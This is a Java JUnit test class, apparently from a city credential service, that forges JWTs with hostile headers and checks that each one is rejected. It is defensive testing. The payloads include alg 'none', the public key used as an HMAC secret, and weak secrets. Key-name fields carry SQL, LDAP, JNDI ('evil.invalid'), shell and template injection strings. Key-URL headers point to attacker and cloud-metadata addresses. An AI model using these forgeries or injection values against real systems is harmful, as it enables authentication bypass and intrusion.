package city.certfree.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;

import city.certfree.crypto.KeyPurpose;
import city.certfree.fixture.Caller;
import city.certfree.fixture.UseRequest;
import city.certfree.kernel.DepartmentCode;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.ECKey;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.security.GeneralSecurityException;
import java.text.ParseException;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;

/** Attacks by what a token says of its own key and algorithm. */
@MicronautTest(transactional = false)
class HeaderAttacksTest extends TokenAttacks {
    private static final String ES256 = "\"ES256\"";
    private static final String ALG = "\"alg\":\"ES256\"";

    @Test
    void takesTheTokensThatTheAttacksAreMadeOf() {
        shown("ACCEPTED null", Draft::signed);
        var share = Caller.bearer(http, access().signed())
                .post("/api/v1/shares", UseRequest.share().body());
        assertEquals(200, share.status());
        assertEquals("200", proven(assertion().signed()));
    }

    @Test
    void j01_algNone() {
        for (var none : List.of("none", "None", "noNE", "NONE ", "")) {
            everywhere(
                    "forged", token -> token.header(ES256, "\"" + none + "\"").signed());
            everywhere(
                    "malformed",
                    token -> token.header(ES256, "\"" + none + "\"").input() + ".");
        }
    }

    @Test
    void j02_publicKeyAsASecret() {
        for (var secret : publicForms()) {
            everywhere("forged", token -> hs256(token, secret));
        }
        for (var alg : List.of("RS256", "SM2SM3")) {
            everywhere("forged", token -> token.header("ES256", alg).signed());
        }
    }

    @Test
    void j03_weakSecret() {
        for (var secret : List.of("\0", "secret", "password", "certfree", "changeit")) {
            everywhere("forged", token -> hs256(token, secret.getBytes(UTF_8)));
        }
    }

    @Test
    void j04_anotherAlgorithmOfTheFamily() {
        for (var alg : List.of("ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "PS256", "RS256", "PS512", "es256")) {
            everywhere("forged", token -> token.header("ES256", alg).signed());
        }
    }

    @Test
    void j05_algMissingOrOfAnotherKind() {
        for (var member : List.of(
                "\"kty\":\"EC\"",
                "\"alg\":256",
                "\"alg\":[\"ES256\"]",
                "\"alg\":null",
                "\"alg\":{}",
                "\"alg\":true",
                ALG + "," + ALG)) {
            everywhere("malformed", token -> token.header(ALG, member).signed());
        }
        credential(token -> token.header("\"kid\":\"" + token.signer().kid() + "\"", "\"kid\":7")
                .signed());
        shown("REJECTED malformed", t -> t.header("\"kid\":\"" + t.signer().kid() + "\",", "")
                .signed());
    }

    @Test
    void j06_keyUnknownOrOfAnother() {
        var receipts = keys.signer(KeyPurpose.RECEIPT);
        var issuer = keys.issuer(new DepartmentCode("1101"));
        everywhere("forged", token -> withKid(token, "A".repeat(43)));
        for (var other : List.of(receipts, issuer, ClientKey.next())) {
            everywhere("forged", token -> token.by(other).signed());
            everywhere("forged", token -> withKid(token.by(other), other.kid()));
        }
    }

    @Test
    void j07_keyNameThatIsAPath() {
        for (var kid : List.of("../../dev/null", "file:///etc/passwd", "%2e%2e%2f", "\u043A".repeat(43), "")) {
            everywhere("forged", token -> withKid(token, kid));
        }
        everywhere("malformed", token -> withKid(token, "a\\u0000b"));
        shown("REJECTED malformed", token -> withKid(token, "k".repeat(100_000)));
        everywhere("malformed", token -> withKid(token, "k".repeat(4_000)));
    }

    @Test
    void j08_keyNameThatIsACommand() {
        for (var kid : List.of(
                "' UNION SELECT 1 --",
                "' OR '1'='1",
                "*)(uid=*",
                "${jndi:ldap://evil.invalid/a}",
                "| touch /tmp/j08",
                "{{7*7}}")) {
            everywhere("forged", token -> withKid(token, kid));
        }
    }

    /** The address is one where a connection would be noticed, whoever made it and by whatever library. */
    @Test
    void j09_addressOfAKey() throws IOException {
        try (var trap = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            for (var url : List.of(
                    "http://127.0.0.1:" + trap.getLocalPort() + "/jwks.json",
                    "https://evil.invalid/jwks.json",
                    "http://169.254.169.254/latest/meta-data/",
                    "file:///etc/passwd")) {
                everywhere("malformed", token -> token.adding("\"jku\":\"" + url + "\"")
                        .signed());
                everywhere("malformed", token -> token.adding("\"x5u\":\"" + url + "\"")
                        .signed());
                everywhere("forged", token -> withKid(token, url));
            }
            trap.setSoTimeout(1);
            assertNobodyComes(trap);
        }
    }

    @Test
    void j10_keyInTheToken() {
        var own = ClientKey.next();
        var jwk = "\"jwk\":" + own.key().toPublicJWK();
        everywhere("malformed", token -> token.adding(jwk).by(own).signed());
        for (var member : List.of("\"x5c\":[\"MIIBIjANBgkq\"]", "\"x5t\":\"AA\"", "\"x5t#S256\":\"AA\"")) {
            everywhere("malformed", token -> token.adding(member).signed());
        }
    }

    @Test
    void j11_keyInTheTokenBesideItsName() {
        var own = ClientKey.next();
        var jwk = "\"jwk\":" + own.key().toPublicJWK();
        everywhere("malformed", token -> token.adding(jwk).signed());
        everywhere("malformed", token -> token.header(token.signer().kid(), own.kid())
                .adding(jwk)
                .by(own)
                .signed());
    }

    @Test
    void j12_critical() {
        for (var member : List.of(
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[]",
                "\"crit\":[\"alg\"]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"crit\":\"exp\"")) {
            everywhere("malformed", token -> token.adding(member).signed());
        }
        shown("REJECTED malformed", token -> token.claims("{", "{\"crit\":[\"exp\"],")
                .signed());
    }

    @Test
    void j13_duplicateHeaderNames() {
        for (var member : List.of(
                "\"alg\":\"none\"",
                "\"\\u0061lg\":\"none\"",
                "\"ALG\":\"none\"",
                "\"Alg\":\"ES256\"",
                "\"kid\":\"x\"",
                "\"typ\":\"JWT\"")) {
            everywhere("malformed", token -> token.adding(member).signed());
        }
    }

    @Test
    void j17_compressed() {
        for (var zip : List.of("DEF", "GZ", "none", "")) {
            everywhere("malformed", token -> token.adding("\"zip\":\"" + zip + "\"")
                    .signed());
        }
    }

    @Test
    void j18_encrypted() {
        for (var alg : List.of("PBES2-HS256+A128KW", "RSA1_5", "dir", "ECDH-ES")) {
            everywhere("forged", token -> token.header("ES256", alg).signed());
            everywhere("malformed", token -> token.header("ES256", alg)
                    .adding("\"enc\":\"A128GCM\"")
                    .signed());
        }
        for (var member :
                List.of("\"p2c\":2147483647", "\"p2s\":\"AA\"", "\"enc\":\"A128GCM\"", "\"epk\":{\"kty\":\"EC\"}")) {
            everywhere("malformed", token -> token.adding(member).signed());
        }
        everywhere("malformed", token -> token.input() + ".AAAA.AAAA.AAAA");
    }

    @Test
    void j24_tokenOfAnotherKind() {
        shown("REJECTED malformed", _ -> access().signed());
        shown("REJECTED malformed", _ -> assertion().signed());
        credential(_ -> show().signed());
        credential(token -> (token.header().contains("at+jwt") ? assertion() : access()).signed());
        for (var typ : List.of("id_token", "dpop+jwt", "kb+jwt", "statuslist+jwt", "logout+jwt", "receipt+jwt")) {
            everywhere("malformed", token -> withTyp(token, "\"" + typ + "\""));
        }
    }

    @Test
    void j25_typeMissingOrInAnotherForm() {
        for (var typ : List.of(
                "\"jwt\"",
                "\"application/show+jwt\"",
                "\"application/at+jwt\"",
                "\"SHOW+JWT\"",
                "\"AT+JWT\"",
                "\" show+jwt\"",
                "7")) {
            everywhere("malformed", token -> withTyp(token, typ));
        }
        shown("REJECTED malformed", token -> withTyp(token, "\"JWT\""));
        shown("REJECTED malformed", token -> token.header(",\"typ\":\"show+jwt\"", "")
                .signed());
        assertEquals(
                "401 not-signed-in",
                Caller.bearer(http, access().header(",\"typ\":\"at+jwt\"", "").signed())
                        .post("/api/v1/shares", UseRequest.share().body())
                        .problem());
    }

    private static String withKid(Draft token, String kid) {
        return token.header(token.header().replaceFirst(".*\"kid\":\"([^\"]*)\".*", "$1"), kid)
                .signed();
    }

    private static String withTyp(Draft token, String typ) {
        return token.header(token.header().replaceFirst(".*(\"typ\":\"[^\"]*\").*", "$1"), "\"typ\":" + typ)
                .signed();
    }

    /** The service's published key, and the client's registered one, in every form that could be taken for a secret. */
    private List<byte[]> publicForms() {
        var kid = keys.signer(KeyPurpose.SHOW).kid();
        return keys.publicKeys().stream()
                .filter(members -> kid.equals(members.get("kid")))
                .flatMap(members -> forms(new HashMap<>(members)).stream())
                .toList();
    }

    private static List<byte[]> forms(Map<String, Object> members) {
        try {
            var key = ECKey.parse(members);
            byte[] der = key.toECPublicKey().getEncoded();
            var pem = "-----BEGIN PUBLIC KEY-----\n"
                    + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
            return List.of(
                    der,
                    pem.getBytes(US_ASCII),
                    key.toJSONString().getBytes(UTF_8),
                    key.getX().decode());
        } catch (ParseException | JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String hs256(Draft token, byte[] secret) {
        try {
            var mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            var changed = token.header("ES256", "HS256");
            return changed.signed(mac.doFinal(changed.input().getBytes(US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void assertNobodyComes(ServerSocket trap) throws IOException {
        try (var caller = trap.accept()) {
            throw new AssertionError("the service called " + caller);
        } catch (SocketTimeoutException expected) {
            assertEquals(1, trap.getSoTimeout());
        }
    }
}
